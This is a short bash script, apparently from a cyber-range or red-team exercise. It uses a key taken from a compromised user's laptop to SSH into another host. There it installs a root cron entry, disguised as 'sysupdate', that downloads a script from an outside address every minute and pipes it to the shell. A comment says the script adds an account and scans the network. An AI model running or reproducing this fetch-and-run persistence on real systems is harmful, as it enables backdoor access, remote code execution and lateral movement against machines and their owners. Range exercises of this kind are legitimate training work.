#!/bin/bash
# From alice's taken laptop: a cron entry that loads a script each minute; the script adds an account and scans.
ssh -q -b 10.20.0.11 -i /range/keys/alice alice@10.20.0.5 \
  'echo "* * * * * root curl -fs http://203.0.113.66/u.sh | sh" | sudo tee /etc/cron.d/sysupdate' >/dev/null
sleep 75
